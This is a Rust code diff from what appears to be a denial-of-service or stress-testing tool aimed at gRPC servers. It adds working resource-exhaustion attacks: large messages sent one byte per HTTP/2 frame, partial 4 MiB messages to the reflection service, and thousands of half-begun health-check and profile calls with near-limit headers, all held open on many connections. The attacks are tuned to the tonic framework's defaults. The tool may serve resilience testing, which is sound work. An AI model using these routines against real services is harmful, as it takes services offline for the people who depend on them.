@@ -2,7 +2,7 @@
 
 use std::sync::Arc;
 
-use bytes::Bytes;
+use bytes::{Buf, Bytes};
 
 use super::Ending;
 use crate::raw::{Target, header, send};
@@ -12,6 +12,14 @@ const CONNECTIONS: usize = 16;
 const LARGE: usize = 1 << 20;
 /// Small enough to take of the part of the budget that is kept for small messages.
 const SMALL: usize = 60 << 10;
+/// Frames of one byte on each connection.
+const CRUMBS: usize = 200_000;
+/// Messages to the reflection service, and their size: the most that tonic takes by default.
+const REFLECTIONS: usize = 800;
+const REFLECTED: usize = 4 << 20;
+/// Calls that are begun, and the bytes of their long header. A head may have 8 KiB.
+const HALVES: usize = 9_600;
+const LONG: usize = 6_500;
 
 /// Declares large messages, and sends nothing of them.
 pub async fn declared(target: Arc<Target>) -> Ending {
@@ -30,6 +38,60 @@ pub async fn small(target: Arc<Target>) -> Ending {
 
 fn all_but_the_last_byte(length: usize) -> Bytes {
     [&header(length)[..], &vec![0; length - 1]].concat().into()
+}
+
+/// Sends large messages one byte at a time: each takes a frame of its own.
+pub async fn crumbs(target: Arc<Target>) -> Ending {
+    let mut tasks = tokio::task::JoinSet::new();
+    for _ in 0..CONNECTIONS {
+        let mut connection = target.h2(1 << 16).await.map_err(|error| error.to_string())?;
+        let Ok((response, mut body)) = connection.begin("ProfileService/UpdateProfile").await else { continue };
+        tasks.spawn(async move {
+            let mut bytes = Bytes::copy_from_slice(&header(LARGE)).chain(Bytes::from(vec![0; CRUMBS]));
+            while bytes.has_remaining() && send(&mut body, bytes.copy_to_bytes(1)).await.is_ok() {}
+            (response, body)
+        });
+    }
+    let open = tasks.join_all().await;
+    target.hold().await;
+    Ok(format!("{} calls were begun", open.len()))
+}
+
+/// Declares large messages to the reflection service, and sends a part of each.
+pub async fn reflection(target: Arc<Target>) -> Ending {
+    let part: Bytes = [&header(REFLECTED)[..], &vec![0; SMALL]].concat().into();
+    halves(target, "grpc.reflection.v1.ServerReflection/ServerReflectionInfo", REFLECTIONS, [], part).await
+}
+
+/// Begins health checks with a long header.
+pub async fn checks(target: Arc<Target>) -> Ending {
+    halves(target, "grpc.health.v1.Health/Check", HALVES, [("x".into(), "y".repeat(LONG))], Bytes::new()).await
+}
+
+/// Begins lookups with a long header.
+pub async fn lookups(target: Arc<Target>) -> Ending {
+    halves(target, "ProfileService/GetProfile", HALVES, [("x".into(), "y".repeat(LONG))], Bytes::new()).await
+}
+
+/// Begins as many calls, and sends only a part of each message.
+async fn halves<H>(target: Arc<Target>, method: &str, calls: usize, headers: H, part: Bytes) -> Ending
+where
+    H: IntoIterator<Item = (String, String)> + Clone,
+{
+    let mut open = Vec::new();
+    let mut begun = 0;
+    for _ in 0..CONNECTIONS {
+        let mut connection = target.h2(1 << 16).await.map_err(|error| error.to_string())?;
+        for _ in 0..calls / CONNECTIONS {
+            let Ok((response, mut body)) = connection.begin_with(method, headers.clone()).await else { break };
+            begun += 1;
+            if part.is_empty() || send(&mut body, part.clone()).await.is_ok() {
+                open.push((response, body));
+            }
+        }
+    }
+    target.hold().await;
+    Ok(format!("{begun} calls were begun"))
 }
 
 async fn attack(target: Arc<Target>, bytes: Bytes) -> Ending {
